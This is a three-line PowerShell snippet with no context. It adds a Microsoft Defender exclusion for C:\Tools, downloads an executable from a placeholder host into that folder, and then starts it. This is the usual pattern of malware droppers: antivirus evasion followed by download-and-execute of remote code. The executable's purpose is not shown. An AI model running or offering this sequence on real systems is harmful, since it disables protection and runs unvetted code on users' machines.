Add-MpPreference -ExclusionPath "C:\Tools"
Invoke-WebRequest https://tools.example.invalid/a.exe -OutFile C:\Tools\a.exe
Start-Process C:\Tools\a.exe
